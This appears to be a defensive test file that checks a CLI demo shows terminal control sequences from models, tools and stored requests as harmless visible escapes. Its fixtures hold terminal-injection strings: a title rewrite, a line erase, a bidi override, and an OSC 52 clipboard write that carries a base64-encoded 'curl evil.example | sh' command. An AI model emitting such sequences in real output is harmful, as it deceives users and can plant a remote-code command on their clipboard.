// Text from a tool, an MCP server or a model is shown in the terminal, never obeyed: a prompt
// that retitles the window, erases the line, writes the clipboard (OSC 52), moves the cursor back
// with a carriage return or reverses text with a bidi mark reaches the terminal as visible escapes.
import { createClient, inProcessModel } from "@toolnexus/client";
import { pending } from "@toolnexus/core";
import { nativeTool } from "@toolnexus/native";
import { sqliteStore } from "@toolnexus/store-sqlite";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { makeStyle, Printer } from "../src/printer.js";
import { guardLine, printable, terminalSafeJson } from "../src/terminal-text.js";
import { runDemo, tempDir } from "./processes.js";

const OSC_TITLE = "\u001b]0;pwned\u0007";
const OSC_CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
const ERASE_LINE = "\u001b[2K";
const C1_CSI = "\u009b31m";
const HOSTILE = `Deploy?${OSC_TITLE}${OSC_CLIPBOARD}${ERASE_LINE}\rall fine${C1_CSI}\u202eevil\u0008`;

/** Any character a terminal would act on, outside the demo's own colour codes. */
function obeyable(text: string): string[] {
  const found: string[] = [];
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the test
  const own = /\u001b\[(?:1|2|22|31|32|33|35|36|39)m/g;
  const rest = text.replace(own, "");
  for (const char of rest) {
    const code = char.codePointAt(0)!;
    if (code === 0x0a) continue;
    if (
      code < 0x20 ||
      (code >= 0x7f && code <= 0x9f) ||
      (code >= 0x202a && code <= 0x202e) ||
      (code >= 0x2066 && code <= 0x2069) ||
      code === 0x2028 ||
      code === 0x2029
    ) {
      found.push(`U+${code.toString(16).padStart(4, "0")}`);
    }
  }
  return found;
}

describe("printable and guardLine", () => {
  it("show every control character as an escape, and keep the text readable", () => {
    const shown = printable(HOSTILE);
    expect(obeyable(shown)).toEqual([]);
    expect(shown).toContain("\\x1b]52;c;");
    expect(shown).toContain("\\x07");
    expect(shown).toContain("\\x0dall fine");
    expect(shown).toContain("\\x9b31m");
    expect(shown).toContain("\\u202eevil");
    expect(printable("two\nlines")).toBe("two ⏎ lines");
    // Idempotent: printing printed text changes nothing.
    expect(printable(shown)).toBe(shown);
  });

  it("guardLine lets the demo's own colours and line breaks through, and nothing else", () => {
    const s = makeStyle(true);
    const line = `${s.bold("ok")} ${s.red("no")}\nnext ${OSC_TITLE}${ERASE_LINE}`;
    const guarded = guardLine(line);
    expect(guarded.startsWith(`${s.bold("ok")} ${s.red("no")}\nnext `)).toBe(true);
    expect(obeyable(guarded)).toEqual([]);
    expect(guarded).toContain("\\x1b]0;pwned\\x07\\x1b[2K");
  });

  it("terminalSafeJson is the same value, with what JSON leaves raw escaped", () => {
    const value = { prompt: HOSTILE, nested: ["\u0085", "\u2028"] };
    const json = terminalSafeJson(value, 2);
    expect(obeyable(json)).toEqual([]);
    expect(JSON.parse(json)).toEqual(value);
  });
});

describe("the transcript", () => {
  it("prints a hostile model, tool and request as text, in colour too", () => {
    let out = "";
    const printer = new Printer((text) => {
      out += text;
    }, makeStyle(true));
    const call = { id: `c1${OSC_TITLE}`, name: `deploy${ERASE_LINE}`, args: { v: HOSTILE } };
    const ctx = { agent: HOSTILE, sessionId: "s", callId: call.id } as never;
    printer.event({
      type: "message",
      turn: 1,
      message: { role: "assistant", content: `line one\n${HOSTILE}` },
    } as never);
    printer.event({ type: "tool_call", call: { ...call, rawArgs: HOSTILE }, ctx } as never);
    printer.event({
      type: "pending",
      call,
      request: { id: `pnd${OSC_CLIPBOARD}`, kind: "input", prompt: HOSTILE, data: {} },
    } as never);
    printer.event({
      type: "tool_result",
      call,
      pending: false,
      isError: false,
      record: { durationMs: 1, timedOut: false, result: { output: HOSTILE } },
    } as never);
    printer.note({ kind: "info", tool: "deploy", callId: call.id, text: HOSTILE } as never);
    expect(out).toContain("Deploy?\\x1b]0;pwned\\x07");
    expect(obeyable(out)).toEqual([]);
    // The model's own line breaks stay line breaks, indented under the speaker.
    expect(out).toContain("line one\n    Deploy?");
  });
});

describe("demo pending and resume on a stored hostile request", () => {
  let tmp: ReturnType<typeof tempDir>;
  let db: string;
  beforeEach(() => {
    tmp = tempDir();
    db = tmp.file("demo.db");
  });
  afterEach(() => tmp.cleanup());

  /** A run halted on a tool whose question (and data) carry control sequences. */
  async function seed(): Promise<string> {
    const store = sqliteStore({ path: db });
    try {
      const ask = nativeTool({
        // The demo's own tool and agent names, so `resume` takes the run for one of its own.
        name: "deploy",
        description: "asks",
        input: { type: "object", properties: {} },
        run: () =>
          pending({
            kind: "input",
            prompt: HOSTILE,
            // As a sub-agent's escalated question would say who asks.
            route: { agent: `writer${OSC_TITLE}`, path: [`notes${ERASE_LINE}`] },
            data: {
              schema: {
                type: "object",
                properties: { env: { type: "string", default: `prod${ERASE_LINE}` } },
              },
            },
          }),
      });
      const client = createClient({
        model: inProcessModel({
          id: "scripted:hostile",
          generate: () => ({ toolCalls: [{ id: "c1", name: "deploy", arguments: {} }] }),
        }),
        tools: [ask],
        runs: store,
        agent: "release-assistant",
      });
      const result = await client.run("go", { sessionId: `rel-${ERASE_LINE}` });
      expect(result.status).toBe("pending");
      return result.status === "pending" ? result.pending.id : "";
    } finally {
      store.close();
    }
  }

  it("lists it as text, as JSON, and refuses to answer it for nobody, printing nothing obeyable", async () => {
    const id = await seed();
    const listed = await runDemo(["pending", "--db", db]);
    expect(listed.code, listed.stderr).toBe(0);
    expect(listed.stdout).toContain("Deploy?\\x1b]0;pwned\\x07\\x1b]52;c;");
    expect(listed.stdout).toContain("asked by writer\\x1b]0;pwned\\x07");
    expect(obeyable(listed.stdout)).toEqual([]);

    const json = await runDemo(["pending", "--json", "--db", db]);
    expect(json.code, json.stderr).toBe(0);
    expect(obeyable(json.stdout)).toEqual([]);
    const rows = JSON.parse(json.stdout) as { request: { prompt: string } }[];
    expect(rows[0]?.request.prompt).toBe(HOSTILE);

    // Off a terminal and with no flag, nothing is answered; the refusal quotes the prompt safely.
    const refused = await runDemo(["resume", id, "--db", db]);
    expect(refused.code, refused.stderr).toBe(2);
    expect(refused.stderr).toContain("there is no terminal to ask");
    expect(refused.stderr).toContain("Nothing was recorded; it still waits.");
    expect(obeyable(refused.stderr)).toEqual([]);
    const store = sqliteStore({ path: db });
    try {
      expect(store.list({ state: "waiting" }).map((item) => item.request.id)).toEqual([id]);
    } finally {
      store.close();
    }
  });
});
